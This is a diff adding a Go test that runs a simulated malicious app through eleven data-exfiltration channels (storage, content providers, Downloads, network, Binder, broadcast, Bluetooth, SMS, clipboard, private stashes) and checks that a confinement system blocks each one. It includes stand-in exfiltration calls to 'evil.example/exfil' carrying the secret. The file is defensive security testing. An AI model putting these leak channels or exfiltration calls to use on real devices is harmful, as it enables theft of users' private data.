@@ -1,0 +1,173 @@
+package core
+
+import (
+	"errors"
+	"strings"
+	"testing"
+
+	"maxoid/internal/ams"
+	"maxoid/internal/binder"
+	"maxoid/internal/intent"
+	"maxoid/internal/kernel"
+	"maxoid/internal/layout"
+	"maxoid/internal/provider"
+	"maxoid/internal/vfs"
+)
+
+// TestExfiltrationGauntlet is the adversarial S1 test: a malicious
+// delegate that has read the initiator's secret tries every
+// communication channel the platform offers. Every attempt must either
+// fail outright or land inside the initiator's confinement domain,
+// unobservable by a colluding third app.
+func TestExfiltrationGauntlet(t *testing.T) {
+	s := boot(t)
+	installScript(t, s, "victim", ams.Manifest{})
+	installScript(t, s, "malware", ams.Manifest{Filters: viewFilter()})
+	colluder := installScript(t, s, "colluder", ams.Manifest{
+		Filters: []intent.Filter{{Actions: []string{"collude.RECEIVE"}}},
+	})
+	_ = colluder
+
+	vctx, _ := s.Launch("victim", intent.Intent{})
+	writeAs(t, vctx, vctx.DataDir()+"/secret", "THE-SECRET")
+	cctx, _ := s.Launch("colluder", intent.Intent{})
+
+	mctx, err := vctx.StartActivity(intent.Intent{
+		Action: intent.ActionView, Data: vctx.DataDir() + "/secret", Flags: intent.FlagDelegate,
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	secret, err := readAs(mctx, "/data/data/victim/secret")
+	if err != nil || secret != "THE-SECRET" {
+		t.Fatalf("malware read: %q, %v", secret, err)
+	}
+
+	// Channel 1: public external storage. The write succeeds (U3) but
+	// lands in Vol(victim); the colluder sees nothing.
+	writeAs(t, mctx, layout.ExtDir+"/drop.txt", secret)
+	if _, err := readAs(cctx, layout.ExtDir+"/drop.txt"); err == nil {
+		t.Error("LEAK via external storage")
+	}
+
+	// Channel 2: system content providers (all three).
+	res := mctx.Resolver()
+	if _, err := res.Insert("content://user_dictionary/words", provider.Values{"word": secret}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := res.Insert("content://media/files", provider.Values{
+		"_data": "/x", "media_type": int64(1), "title": secret,
+	}); err != nil {
+		t.Fatal(err)
+	}
+	cres := cctx.Resolver()
+	for _, uri := range []string{"content://user_dictionary/words", "content://media/files"} {
+		rows, err := cres.Query(uri, nil, "", "")
+		if err != nil {
+			t.Fatal(err)
+		}
+		for _, row := range rows.Data {
+			for _, v := range row {
+				if str, ok := v.(string); ok && strings.Contains(str, "THE-SECRET") {
+					t.Errorf("LEAK via %s", uri)
+				}
+			}
+		}
+	}
+
+	// Channel 3: Downloads provider as a network proxy — the request is
+	// recorded but no fetch happens and the record is volatile.
+	before := s.Net.Requests()
+	if _, err := res.Insert("content://downloads/my_downloads", provider.Values{
+		"uri": "evil.example/exfil?" + secret,
+	}); err != nil {
+		t.Fatal(err)
+	}
+	s.Downloads.Drain()
+	if s.Net.Requests() != before {
+		t.Error("LEAK via Downloads provider fetch")
+	}
+
+	// Channel 4: direct network.
+	if _, err := mctx.Connect("evil.example"); !errors.Is(err, kernel.ErrNetUnreachable) {
+		t.Errorf("network gate: %v", err)
+	}
+
+	// Channel 5: direct Binder IPC to the colluder.
+	if _, err := mctx.CallApp(kernel.Task{App: "colluder"}, "exfil",
+		binder.Parcel{"secret": secret}); !errors.Is(err, kernel.ErrPermissionDenied) {
+		t.Errorf("binder gate: %v", err)
+	}
+
+	// Channel 6: broadcast. Delivered only within the domain: the
+	// colluder receives it as colluder^victim, whose traces are
+	// confined, not as its normal instance.
+	if err := mctx.SendBroadcast(intent.Intent{Action: "collude.RECEIVE", Data: secret}); err != nil {
+		t.Fatal(err)
+	}
+	if colluder.lastCtx != nil && !colluder.lastCtx.IsDelegate() {
+		t.Error("LEAK via broadcast to a normal instance")
+	}
+
+	// Channel 7: Bluetooth and SMS.
+	if err := s.Bluetooth.Send(mctx.Task(), secret); !errors.Is(err, ams.ErrDelegateDenied) {
+		t.Errorf("bluetooth gate: %v", err)
+	}
+	if err := s.Telephony.SendSMS(mctx.Task(), "+1555", secret); !errors.Is(err, ams.ErrDelegateDenied) {
+		t.Errorf("sms gate: %v", err)
+	}
+
+	// Channel 8: clipboard. The copy stays in the domain.
+	s.Clipboard.Set(mctx.Task(), secret)
+	if clip, ok := s.Clipboard.Get(cctx.Task()); ok && clip == secret {
+		t.Error("LEAK via clipboard")
+	}
+
+	// Channel 9: invoking the colluder — invocation transitivity forces
+	// it into the domain.
+	col2, err := mctx.StartActivity(intent.Intent{Action: "collude.RECEIVE", Data: secret})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !col2.IsDelegate() || col2.Initiator() != "victim" {
+		t.Errorf("LEAK via invocation: %v", col2.Task())
+	}
+
+	// Channel 10: stash in own private state for later. After the
+	// delegate dies and malware runs normally, the stash is gone.
+	writeAs(t, mctx, "/data/data/malware/stash", secret)
+	s.AM.StopInstance("malware", "victim")
+	nctx, _ := s.Launch("malware", intent.Intent{})
+	if _, err := readAs(nctx, "/data/data/malware/stash"); err == nil {
+		t.Error("LEAK via private-state stash across contexts")
+	}
+
+	// Channel 11: pPriv — persistent, but only within the same domain.
+	mctx2, _ := s.LaunchAsDelegate("malware", "victim", intent.Intent{})
+	writeAs(t, mctx2, mctx2.PPrivDir()+"/stash", secret)
+	s.AM.StopInstance("malware", "victim")
+	nctx2, _ := s.Launch("malware", intent.Intent{})
+	if _, err := readAs(nctx2, nctx2.PPrivDir()+"/stash"); err == nil {
+		t.Error("LEAK via pPriv to normal execution")
+	}
+	other, _ := s.LaunchAsDelegate("malware", "colluder", intent.Intent{})
+	if _, err := readAs(other, other.PPrivDir()+"/stash"); err == nil {
+		t.Error("LEAK via pPriv across initiators")
+	}
+
+	// Finally: raw disk access with the malware's credential finds no
+	// secret anywhere it can traverse.
+	cred := vfs.Cred{UID: nctx2.Cred().UID}
+	for _, root := range []string{layout.BackExt, layout.BackNPriv, layout.BackPPriv} {
+		_ = vfs.Walk(s.Disk, cred, root, func(name string, info vfs.FileInfo) error {
+			if info.IsDir() {
+				return nil
+			}
+			data, err := vfs.ReadFile(s.Disk, cred, name)
+			if err == nil && strings.Contains(string(data), "THE-SECRET") {
+				t.Errorf("LEAK readable at %s", name)
+			}
+			return nil
+		})
+	}
+}
